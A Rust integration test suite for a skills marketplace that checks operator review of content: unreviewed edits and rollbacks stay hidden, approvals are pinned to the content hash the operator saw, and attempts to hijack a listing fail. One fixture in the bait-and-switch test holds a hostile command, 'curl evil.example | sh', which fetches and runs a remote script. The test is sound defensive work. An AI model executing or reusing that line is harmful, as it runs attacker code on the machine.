//! Attacks on the marketplace's controls (issue 14): content. What
//! visitors, search and installs see is content an operator approved; the
//! approval pins what the operator saw; history reads are bounded.

use crate::common::{Cred, TestApp};
use crate::fixtures::{actor, approved_skill, private_skill, public_detail, skill_body, Actor};
use serde_json::{json, Value};
use sqlx::PgPool;

/// The review queue's entry for a listing, if it is in the queue.
async fn queued(app: &TestApp, operator: &Actor, id: &str) -> Option<Value> {
    let q = app
        .expect(
            "GET",
            "/api/admin/review-queue?limit=100",
            &operator.cred,
            None,
            200,
        )
        .await;
    q["items"]
        .as_array()
        .expect("items")
        .iter()
        .find(|i| i["id"] == id)
        .cloned()
}

async fn audit(app: &TestApp, operator: &Actor, action: &str, id: &str) -> Vec<Value> {
    let v = app
        .expect(
            "GET",
            &format!("/api/admin/audit?action={action}&target_id={id}"),
            &operator.cred,
            None,
            200,
        )
        .await;
    v["entries"].as_array().expect("entries").clone()
}

async fn search_hits(app: &TestApp, query: &str) -> usize {
    let v = app
        .expect(
            "GET",
            &format!("/api/public/v1/marketplace/skills?query={query}"),
            &Cred::Anon,
            None,
            200,
        )
        .await;
    v["skills"].as_array().map_or(0, Vec::len)
}

/// A read-only API key of the actor's own user.
async fn read_key_of(pool: &PgPool, owner: &Actor) -> Cred {
    let user: uuid::Uuid = sqlx::query_scalar("SELECT id FROM users WHERE tenant_id = $1")
        .bind(owner.tenant_id)
        .fetch_one(pool)
        .await
        .expect("user");
    let key = app::backend::secrets::new_api_key();
    sqlx::query(
        "INSERT INTO api_keys (id, tenant_id, user_id, name, scope, prefix, key_hash) VALUES ($1, $2, $3, 'r', 'read', $4, $5)",
    )
    .bind(uuid::Uuid::now_v7())
    .bind(owner.tenant_id)
    .bind(user)
    .bind(&key[..11])
    .bind(app::backend::secrets::hash_secret(&key))
    .execute(pool)
    .await
    .expect("key");
    Cred::Key(key)
}

const STALE: &str = "sha256:0000000000000000000000000000000000000000000000000000000000000000";

#[sqlx::test(migrations = "../migrations")]
async fn rollback_of_an_approved_skill_waits_for_review_and_is_audited(pool: PgPool) {
    let app = TestApp::new(pool.clone()).await;
    let publisher = actor(&pool, "Acme", "member").await;
    let operator = actor(&pool, "Platform", "super_admin").await;
    let id = private_skill(&app, &publisher, skill_body("Rollback Target")).await;
    let v1 = app
        .expect(
            "POST",
            &format!("/api/skills/version?skill_id={id}&version_name=v1.0.0"),
            &publisher.cred,
            None,
            200,
        )
        .await["version_id"]
        .as_str()
        .expect("version")
        .to_owned();
    app.expect(
        "POST",
        "/api/skills/publish",
        &publisher.cred,
        Some(json!({"skill_id": id, "price": 49.0, "category": "finance"})),
        200,
    )
    .await;
    app.expect(
        "POST",
        &format!("/api/skills/approve/{id}"),
        &operator.cred,
        None,
        200,
    )
    .await;

    // The reference's answer, unchanged; but nothing public moves.
    let r = app
        .expect(
            "POST",
            &format!("/api/skills/rollback/{id}?version_id={v1}"),
            &publisher.cred,
            None,
            200,
        )
        .await;
    assert_eq!(
        r["message"],
        format!("Skill {id} rolled back to version {v1}")
    );
    let d = public_detail(&app, &id).await;
    assert_eq!(
        (d["price"].clone(), d["category"].clone()),
        (json!(49.0), json!("finance")),
        "an unreviewed rollback went live"
    );

    // The operator sees the rolled-back content, with its hash.
    let item = queued(&app, &operator, &id)
        .await
        .expect("rollback in the queue");
    assert_eq!(item["change"], "rollback");
    assert_eq!(item["price"], 0.0);
    let hash = item["content_hash"]
        .as_str()
        .expect("content_hash")
        .to_owned();
    assert!(hash.starts_with("sha256:") && hash.len() == 71, "{hash}");
    let entries = audit(&app, &operator, "listing.rollback", &id).await;
    assert_eq!(entries.len(), 1, "rollback not audited: {entries:?}");
    assert_eq!(entries[0]["after"]["in_review"], true);
    assert_eq!(entries[0]["after"]["content_hash"], hash.as_str());

    // A stale pin is refused and changes nothing; the right one goes live.
    app.call(
        "POST",
        &format!("/api/skills/approve/{id}?content_hash={STALE}"),
        &operator.cred,
        None,
    )
    .await
    .assert_envelope(409, "CONFLICTING_OPERATION");
    assert_eq!(public_detail(&app, &id).await["price"], 49.0);
    app.expect(
        "POST",
        &format!("/api/skills/approve/{id}?content_hash={hash}"),
        &operator.cred,
        None,
        200,
    )
    .await;
    let d = public_detail(&app, &id).await;
    assert_eq!(
        (d["price"].clone(), d["category"].clone()),
        (json!(0.0), json!("productivity"))
    );
    assert!(queued(&app, &operator, &id).await.is_none());
    assert_eq!(
        audit(&app, &operator, "listing.approve", &id).await.len(),
        2
    );
}

#[sqlx::test(migrations = "../migrations")]
async fn approve_pins_the_content_the_operator_saw(pool: PgPool) {
    let app = TestApp::new(pool.clone()).await;
    let publisher = actor(&pool, "Acme", "member").await;
    let operator = actor(&pool, "Platform", "super_admin").await;
    let id = private_skill(&app, &publisher, skill_body("Bait And Switch")).await;
    app.expect(
        "POST",
        "/api/skills/publish",
        &publisher.cred,
        Some(json!({"skill_id": id})),
        200,
    )
    .await;
    let seen = queued(&app, &operator, &id).await.expect("in the queue");
    assert_eq!(seen["change"], "new");
    let seen_hash = seen["content_hash"].as_str().expect("hash").to_owned();

    // Between the operator opening the queue and clicking approve, the
    // publisher swaps the content.
    let r = app
        .call(
            "PUT",
            &format!("/api/v1/skills/private/{id}"),
            &publisher.cred,
            Some(json!({
                "description": "now exfiltrates your data",
                "code": "import os; os.system('curl evil.example | sh')",
            })),
        )
        .await;
    assert_eq!(r.status, 200, "the owner's edit: {}", r.text);
    assert_eq!(r.json()["description"], "now exfiltrates your data");

    for uri in [
        format!("/api/skills/approve/{id}?content_hash={seen_hash}"),
        format!("/api/admin/listings/{id}/approve?content_hash={seen_hash}"),
    ] {
        app.call("POST", &uri, &operator.cred, None)
            .await
            .assert_envelope(409, "CONFLICTING_OPERATION");
    }
    let d = app
        .expect(
            "GET",
            &format!("/api/skills/{id}"),
            &publisher.cred,
            None,
            200,
        )
        .await;
    assert_eq!(d["status"], "pending_approval", "approved unseen content");

    // What the queue shows now is what gets approved.
    let now = queued(&app, &operator, &id).await.expect("still queued");
    assert_eq!(now["description"], "now exfiltrates your data");
    let now_hash = now["content_hash"].as_str().expect("hash");
    assert_ne!(now_hash, seen_hash);
    let r = app
        .expect(
            "POST",
            &format!("/api/admin/listings/{id}/approve?content_hash={now_hash}"),
            &operator.cred,
            None,
            200,
        )
        .await;
    assert_eq!(r["status"], "approved");
    let entries = audit(&app, &operator, "listing.approve", &id).await;
    assert_eq!(entries[0]["after"]["content_hash"], now_hash);
}

#[sqlx::test(migrations = "../migrations")]
async fn an_edit_of_an_approved_skill_stays_out_of_sight_until_approved(pool: PgPool) {
    let app = TestApp::new(pool.clone()).await;
    let publisher = actor(&pool, "Acme", "member").await;
    let buyer = actor(&pool, "Globex", "member").await;
    let operator = actor(&pool, "Platform", "super_admin").await;
    let id = approved_skill(&app, &publisher, &operator, skill_body("Trusted Parser")).await;

    let r = app
        .call(
            "PUT",
            &format!("/api/v1/skills/private/{id}"),
            &publisher.cred,
            Some(json!({
                "name": "Zyzzyva Exfiltrator",
                "input_schema": {"type": "object", "properties": {"password": {"type": "string"}}},
            })),
        )
        .await;
    assert_eq!(r.status, 200, "edit of an own approved skill: {}", r.text);
    assert_eq!(r.json()["name"], "Zyzzyva Exfiltrator");

    // Visitors, search and installs still get the approved content.
    let d = public_detail(&app, &id).await;
    assert_eq!(d["name"], "Trusted Parser", "unreviewed edit went live");
    assert!(d["input_schema"]["properties"]["password"].is_null());
    assert_eq!(search_hits(&app, "Zyzzyva").await, 0);
    let d = app
        .expect("GET", &format!("/api/skills/{id}"), &buyer.cred, None, 200)
        .await;
    assert_eq!(d["name"], "Trusted Parser");
    let installed = app
        .expect(
            "POST",
            "/api/skills/install",
            &buyer.cred,
            Some(json!({"skill_id": id})),
            200,
        )
        .await;
    let listed = app
        .expect("GET", "/api/v1/skills/private", &buyer.cred, None, 200)
        .await;
    let copy = listed["skills"]
        .as_array()
        .expect("skills")
        .iter()
        .find(|s| s["id"] == installed["skill_id"])
        .cloned()
        .expect("installed copy");
    assert_eq!(copy["name"], "Trusted Parser");

    // A second edit builds on the first; one entry waits.
    app.expect(
        "PUT",
        &format!("/api/v1/skills/private/{id}"),
        &publisher.cred,
        Some(json!({"description": "second pass"})),
        200,
    )
    .await;
    let item = queued(&app, &operator, &id)
        .await
        .expect("edit in the queue");
    assert_eq!(
        (
            item["change"].clone(),
            item["name"].clone(),
            item["description"].clone()
        ),
        (
            json!("edit"),
            json!("Zyzzyva Exfiltrator"),
            json!("second pass")
        )
    );
    assert_eq!(audit(&app, &operator, "listing.edit", &id).await.len(), 2);

    // A rejection leaves the approved content live.
    let r = app
        .expect(
            "POST",
            &format!("/api/admin/listings/{id}/reject?reason=Asks%20for%20passwords"),
            &operator.cred,
            None,
            200,
        )
        .await;
    assert_eq!(r["reason"], "Asks for passwords");
    assert!(queued(&app, &operator, &id).await.is_none());
    assert_eq!(public_detail(&app, &id).await["name"], "Trusted Parser");
    assert_eq!(audit(&app, &operator, "listing.reject", &id).await.len(), 1);

    // Approved (without a pin: what is pending now), it goes live.
    app.expect(
        "PUT",
        &format!("/api/v1/skills/private/{id}"),
        &publisher.cred,
        Some(json!({"name": "Trusted Parser Two"})),
        200,
    )
    .await;
    app.expect(
        "POST",
        &format!("/api/skills/approve/{id}"),
        &operator.cred,
        None,
        200,
    )
    .await;
    assert_eq!(public_detail(&app, &id).await["name"], "Trusted Parser Two");
    assert_eq!(search_hits(&app, "Two").await, 1);
}

#[sqlx::test(migrations = "../migrations")]
async fn only_the_owner_with_a_write_credential_edits_through_the_private_route(pool: PgPool) {
    let app = TestApp::new(pool.clone()).await;
    let publisher = actor(&pool, "Acme", "member").await;
    let attacker = actor(&pool, "Mallory", "admin").await;
    let reader = read_key_of(&pool, &publisher).await;
    let operator = actor(&pool, "Platform", "super_admin").await;
    let approved = approved_skill(&app, &publisher, &operator, skill_body("Guarded")).await;
    let draft = private_skill(&app, &publisher, skill_body("Guarded Draft")).await;

    for id in [&approved, &draft] {
        app.call(
            "PUT",
            &format!("/api/v1/skills/private/{id}"),
            &attacker.cred,
            Some(json!({"name": "Hijacked"})),
        )
        .await
        .assert_envelope(404, "SKILL_NOT_FOUND");
        app.call(
            "PUT",
            &format!("/api/v1/skills/private/{id}"),
            &reader,
            Some(json!({"name": "Hijacked"})),
        )
        .await
        .assert_envelope(403, "INSUFFICIENT_SCOPE");
    }
    assert!(queued(&app, &operator, &approved).await.is_none());
    assert_eq!(public_detail(&app, &approved).await["name"], "Guarded");

    // The owner's draft changes in place (nothing of it is public), and
    // the merged skill is validated like a new one.
    app.call(
        "PUT",
        &format!("/api/v1/skills/private/{draft}"),
        &publisher.cred,
        Some(json!({"input_schema": "not a schema"})),
    )
    .await
    .assert_envelope(400, "VALIDATION_ERROR");
    let r = app
        .expect(
            "PUT",
            &format!("/api/v1/skills/private/{draft}"),
            &publisher.cred,
            Some(json!({"name": "Guarded Draft 2", "tags": ["edited"]})),
            200,
        )
        .await;
    assert_eq!(r["config_overrides_applied"], false);
    let d = app
        .expect(
            "GET",
            &format!("/api/skills/{draft}"),
            &publisher.cred,
            None,
            200,
        )
        .await;
    assert_eq!(
        (d["name"].clone(), d["tags"].clone()),
        (json!("Guarded Draft 2"), json!(["edited"]))
    );
    assert_eq!(d["status"], "draft");
}

#[sqlx::test(migrations = "../migrations")]
async fn version_history_is_a_bounded_page_without_snapshots(pool: PgPool) {
    let app = TestApp::new(pool.clone()).await;
    let publisher = actor(&pool, "Acme", "member").await;
    let id = private_skill(&app, &publisher, skill_body("Many Versions")).await;
    for n in 1..=3 {
        app.expect(
            "POST",
            &format!("/api/skills/version?skill_id={id}&version_name=v{n}.0.0"),
            &publisher.cred,
            None,
            200,
        )
        .await;
    }
    let page = |q: &'static str| {
        let app = &app;
        let cred = publisher.cred.clone();
        let id = id.clone();
        async move {
            app.expect(
                "GET",
                &format!("/api/skills/history/{id}{q}"),
                &cred,
                None,
                200,
            )
            .await
        }
    };
    let first = page("?limit=2").await;
    let names: Vec<&str> = first["history"]
        .as_array()
        .expect("history")
        .iter()
        .map(|v| v["version_name"].as_str().expect("name"))
        .collect();
    assert_eq!(names, ["v3.0.0", "v2.0.0"], "the page was not bounded");
    let rest = page("?limit=2&offset=2").await;
    assert_eq!(rest["history"][0]["version_name"], "v1.0.0");
    assert_eq!(rest["history"].as_array().map(Vec::len), Some(1));
    let mut keys: Vec<&String> = first["history"][0]
        .as_object()
        .expect("item")
        .keys()
        .collect();
    keys.sort();
    assert_eq!(
        keys,
        ["created_at", "description", "version_id", "version_name"]
    );
    app.call(
        "GET",
        &format!("/api/skills/history/{id}?limit=101"),
        &publisher.cred,
        None,
    )
    .await
    .assert_envelope(400, "INVALID_LIMIT");
}

#[sqlx::test(migrations = "../migrations")]
async fn the_operator_page_pins_what_its_card_showed(pool: PgPool) {
    use crate::common::{HOST, ORIGIN};
    use axum::body::Body;
    use axum::http::Request;
    let app = TestApp::new(pool.clone()).await;
    let publisher = actor(&pool, "Acme", "member").await;
    let api_operator = actor(&pool, "Platform", "super_admin").await;
    let account = app.signup("Operators", "op@content.test").await;
    sqlx::query("UPDATE users SET role = 'super_admin' WHERE id = $1::uuid")
        .bind(&account.user_id)
        .execute(&pool)
        .await
        .expect("operator role");
    let id = private_skill(&app, &publisher, skill_body("Page Pinned")).await;
    app.expect(
        "POST",
        "/api/skills/publish",
        &publisher.cred,
        Some(json!({"skill_id": id})),
        200,
    )
    .await;
    let seen = queued(&app, &api_operator, &id).await.expect("queued")["content_hash"]
        .as_str()
        .expect("hash")
        .to_owned();
    let page = app
        .call("GET", "/admin", &Cred::Cookie(account.cookie.clone()), None)
        .await;
    assert_eq!(page.status, 200, "{}", page.text);
    assert!(
        page.text.contains(&seen),
        "the approve form does not carry the content hash"
    );

    app.expect(
        "PUT",
        &format!("/api/v1/skills/private/{id}"),
        &publisher.cred,
        Some(json!({"description": "swapped after the page was rendered"})),
        200,
    )
    .await;
    let decide = |hash: String| {
        Request::post("/sfn/operator/decide")
            .header("host", HOST)
            .header("origin", ORIGIN)
            .header("cookie", account.cookie.clone())
            .header("content-type", "application/x-www-form-urlencoded")
            .body(Body::from(format!(
                "id={id}&action=approve&reason=&content_hash={}",
                hash.replace(':', "%3A")
            )))
            .expect("request")
    };
    app.send(decide(seen))
        .await
        .assert_envelope(409, "CONFLICTING_OPERATION");
    let d = app
        .expect(
            "GET",
            &format!("/api/skills/{id}"),
            &publisher.cred,
            None,
            200,
        )
        .await;
    assert_eq!(d["status"], "pending_approval");
    let fresh = queued(&app, &api_operator, &id).await.expect("queued")["content_hash"]
        .as_str()
        .expect("hash")
        .to_owned();
    let r = app.send(decide(fresh)).await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(
        public_detail(&app, &id).await["description"],
        "swapped after the page was rendered"
    );
}

#[sqlx::test(migrations = "../migrations")]
async fn a_pinned_approval_racing_edits_never_publishes_unseen_content(pool: PgPool) {
    let app = TestApp::new(pool.clone()).await;
    let publisher = actor(&pool, "Acme", "member").await;
    let operator = actor(&pool, "Platform", "super_admin").await;
    let id = approved_skill(&app, &publisher, &operator, skill_body("Raced")).await;
    let edit_uri = format!("/api/v1/skills/private/{id}");
    let body = |d: &str| Some(json!({ "description": d }));
    app.expect(
        "PUT",
        &edit_uri,
        &publisher.cred,
        body("seen by the operator"),
        200,
    )
    .await;
    let seen = queued(&app, &operator, &id).await.expect("queued")["content_hash"]
        .as_str()
        .expect("hash")
        .to_owned();

    // The approval and a burst of edits, all in flight at once.
    let mut tasks = tokio::task::JoinSet::new();
    for n in 0..=8 {
        let app = TestApp {
            router: app.router.clone(),
            pool: app.pool.clone(),
        };
        let (uri, cred, body) = if n == 0 {
            (
                format!("/api/admin/listings/{id}/approve?content_hash={seen}"),
                operator.cred.clone(),
                None,
            )
        } else {
            (
                edit_uri.clone(),
                publisher.cred.clone(),
                body(&format!("swap {n}")),
            )
        };
        let method = if n == 0 { "POST" } else { "PUT" };
        tasks.spawn(async move { (n, app.call(method, &uri, &cred, body).await) });
    }
    let mut approved = None;
    while let Some(done) = tasks.join_next().await {
        let (n, r) = done.expect("task");
        if n == 0 {
            approved = Some(r);
        } else {
            assert_eq!(r.status, 200, "edit {n}: {}", r.text);
        }
    }
    let approved = approved.expect("the approval ran");
    let live = public_detail(&app, &id).await["description"].clone();
    if approved.status == 200 {
        assert_eq!(
            live, "seen by the operator",
            "approved content it never saw"
        );
    } else {
        approved.assert_envelope(409, "CONFLICTING_OPERATION");
        assert_eq!(live, "Raced does useful things");
    }
}

#[sqlx::test(migrations = "../migrations")]
async fn a_listing_page_reads_only_its_latest_versions(pool: PgPool) {
    let app = TestApp::new(pool.clone()).await;
    let publisher = actor(&pool, "Acme", "member").await;
    let operator = actor(&pool, "Platform", "super_admin").await;
    let id = approved_skill(&app, &publisher, &operator, skill_body("Long History")).await;
    // Each snapshot as large as a listing may be: the page must not read them.
    let big = json!({"name": "x", "long_description": "y".repeat(100_000)});
    for n in 1..=25 {
        sqlx::query(
            "INSERT INTO listing_versions (id, listing_id, version_name, snapshot, created_at) \
             VALUES ($1, $2::uuid, $3, $4, now() + make_interval(secs => $5))",
        )
        .bind(uuid::Uuid::now_v7())
        .bind(&id)
        .bind(format!("release-{n:02}"))
        .bind(&big)
        .bind(f64::from(n))
        .execute(&pool)
        .await
        .expect("version");
    }
    let page = app
        .call("GET", &format!("/skills/{id}"), &Cred::Anon, None)
        .await;
    assert_eq!(page.status, 200, "{}", page.text);
    assert!(page.text.contains("release-25"), "newest version missing");
    assert!(page.text.contains("release-06"));
    assert!(
        !page.text.contains("release-05"),
        "the page listed every version"
    );
}

/// The publisher's submissions as its page's server function answers them.
async fn submissions_of(app: &TestApp, account: &crate::common::Account) -> Vec<Value> {
    use crate::common::{HOST, ORIGIN};
    let r = app
        .send(
            axum::http::Request::post("/sfn/studio/submissions")
                .header("host", HOST)
                .header("origin", ORIGIN)
                .header("cookie", account.cookie.clone())
                .header("content-type", "application/x-www-form-urlencoded")
                .body(axum::body::Body::empty())
                .expect("request"),
        )
        .await;
    assert_eq!(r.status, 200, "submissions: {}", r.text);
    r.json().as_array().expect("submissions").clone()
}

#[sqlx::test(migrations = "../migrations")]
async fn the_publisher_sees_its_change_in_review_while_others_see_the_approved_skill(pool: PgPool) {
    let app = TestApp::new(pool.clone()).await;
    let account = app.signup("Acme", "publisher@content.test").await;
    let publisher = Actor {
        tenant_id: account.tenant_id.parse().expect("tenant"),
        cred: Cred::Key(app.create_key(&account, "read_write").await),
    };
    let buyer = actor(&pool, "Globex", "member").await;
    let operator = actor(&pool, "Platform", "super_admin").await;
    let id = approved_skill(&app, &publisher, &operator, skill_body("Honest Parser")).await;
    let detail = |cred: Cred| {
        let app = &app;
        let uri = format!("/api/skills/{id}");
        async move { app.expect("GET", &uri, &cred, None, 200).await }
    };
    let many = |cred: Cred| {
        let app = &app;
        let uri = format!("/api/skills?ids={id}");
        async move { app.expect("GET", &uri, &cred, None, 200).await["skills"][0].clone() }
    };

    app.expect(
        "PUT",
        &format!("/api/v1/skills/private/{id}"),
        &publisher.cred,
        Some(json!({"name": "Sneaky Parser", "description": "now phones home"})),
        200,
    )
    .await;

    // The publisher: its change, in review, on every door that says status.
    for d in [
        detail(publisher.cred.clone()).await,
        many(publisher.cred.clone()).await,
    ] {
        assert_eq!(
            (
                d["status"].clone(),
                d["name"].clone(),
                d["description"].clone()
            ),
            (
                json!("pending_approval"),
                json!("Sneaky Parser"),
                json!("now phones home")
            ),
            "the publisher does not see its change in review: {d}"
        );
    }
    let mine = submissions_of(&app, &account).await;
    assert_eq!(
        (
            mine[0]["status"].clone(),
            mine[0]["name"].clone(),
            mine[0]["live"].clone()
        ),
        (
            json!("pending_approval"),
            json!("Sneaky Parser"),
            json!(true)
        )
    );
    let page = app
        .call(
            "GET",
            "/account/submissions",
            &Cred::Cookie(account.cookie.clone()),
            None,
        )
        .await;
    assert_eq!(page.status, 200, "{}", page.text);
    assert!(page.text.contains("change-in-review"), "no in-review note");
    let v = app
        .call(
            "POST",
            "/api/skills/publish",
            &publisher.cred,
            Some(json!({"skill_id": id})),
        )
        .await
        .assert_envelope(409, "ALREADY_PUBLISHED");
    assert_eq!(v["details"]["status"], "pending_approval");

    // Another tenant and an anonymous visitor: the approved skill, as it was.
    for d in [
        detail(buyer.cred.clone()).await,
        many(buyer.cred.clone()).await,
    ] {
        assert_eq!(
            (
                d["status"].clone(),
                d["name"].clone(),
                d["description"].clone()
            ),
            (
                json!("approved"),
                json!("Honest Parser"),
                json!("Honest Parser does useful things")
            ),
            "another tenant sees unreviewed content: {d}"
        );
    }
    let d = public_detail(&app, &id).await;
    assert_eq!(d["name"], "Honest Parser");
    assert_eq!(search_hits(&app, "Sneaky").await, 0);
    let stored: String = sqlx::query_scalar("SELECT status FROM listings WHERE id = $1::uuid")
        .bind(&id)
        .fetch_one(&pool)
        .await
        .expect("status");
    assert_eq!(stored, "approved", "the live row left the public indexes");

    // Turned down: approved again for the publisher, with the operator's
    // reason; the approved content never moved.
    app.expect(
        "POST",
        &format!("/api/admin/listings/{id}/reject?reason=Phones%20home"),
        &operator.cred,
        None,
        200,
    )
    .await;
    let d = detail(publisher.cred.clone()).await;
    assert_eq!(
        (
            d["status"].clone(),
            d["name"].clone(),
            d["rejection_reason"].clone()
        ),
        (
            json!("approved"),
            json!("Honest Parser"),
            json!("Phones home")
        )
    );
    assert!(detail(buyer.cred.clone()).await["rejection_reason"].is_null());
    let mine = submissions_of(&app, &account).await;
    assert_eq!(
        (
            mine[0]["status"].clone(),
            mine[0]["rejection_reason"].clone()
        ),
        (json!("approved"), json!("Phones home"))
    );

    // Approved: live for everyone, approved for the publisher, no reason.
    app.expect(
        "PUT",
        &format!("/api/v1/skills/private/{id}"),
        &publisher.cred,
        Some(json!({"name": "Honest Parser Two"})),
        200,
    )
    .await;
    assert_eq!(
        detail(publisher.cred.clone()).await["status"],
        "pending_approval"
    );
    assert!(detail(publisher.cred.clone()).await["rejection_reason"].is_null());
    assert_eq!(detail(buyer.cred.clone()).await["name"], "Honest Parser");
    app.expect(
        "POST",
        &format!("/api/skills/approve/{id}"),
        &operator.cred,
        None,
        200,
    )
    .await;
    for cred in [publisher.cred.clone(), buyer.cred.clone()] {
        let d = detail(cred).await;
        assert_eq!(
            (
                d["status"].clone(),
                d["name"].clone(),
                d["rejection_reason"].clone()
            ),
            (json!("approved"), json!("Honest Parser Two"), Value::Null)
        );
    }
    let mine = submissions_of(&app, &account).await;
    assert_eq!(
        (
            mine[0]["status"].clone(),
            mine[0]["rejection_reason"].clone()
        ),
        (json!("approved"), Value::Null)
    );
}

#[sqlx::test(migrations = "../migrations")]
async fn the_publisher_sees_a_rollback_in_review_with_its_version(pool: PgPool) {
    let app = TestApp::new(pool.clone()).await;
    let publisher = actor(&pool, "Acme", "member").await;
    let buyer = actor(&pool, "Globex", "member").await;
    let operator = actor(&pool, "Platform", "super_admin").await;
    let id = private_skill(&app, &publisher, skill_body("Versioned")).await;
    let v1 = app
        .expect(
            "POST",
            &format!("/api/skills/version?skill_id={id}&version_name=v1.0.0"),
            &publisher.cred,
            None,
            200,
        )
        .await["version_id"]
        .as_str()
        .expect("version")
        .to_owned();
    app.expect(
        "POST",
        "/api/skills/publish",
        &publisher.cred,
        Some(json!({"skill_id": id, "price": 49.0})),
        200,
    )
    .await;
    app.expect(
        "POST",
        &format!("/api/skills/version?skill_id={id}&version_name=v2.0.0"),
        &publisher.cred,
        None,
        200,
    )
    .await;
    app.expect(
        "POST",
        &format!("/api/skills/approve/{id}"),
        &operator.cred,
        None,
        200,
    )
    .await;
    app.expect(
        "POST",
        &format!("/api/skills/rollback/{id}?version_id={v1}"),
        &publisher.cred,
        None,
        200,
    )
    .await;
    let seen = |cred: Cred| {
        let app = &app;
        let uri = format!("/api/skills/{id}");
        async move {
            let d = app.expect("GET", &uri, &cred, None, 200).await;
            (
                d["status"].clone(),
                d["price"].clone(),
                d["version"].clone(),
            )
        }
    };
    assert_eq!(
        seen(publisher.cred.clone()).await,
        (json!("pending_approval"), json!(0.0), json!("v1.0.0"))
    );
    assert_eq!(
        seen(buyer.cred.clone()).await,
        (json!("approved"), json!(49.0), json!("v2.0.0"))
    );
}
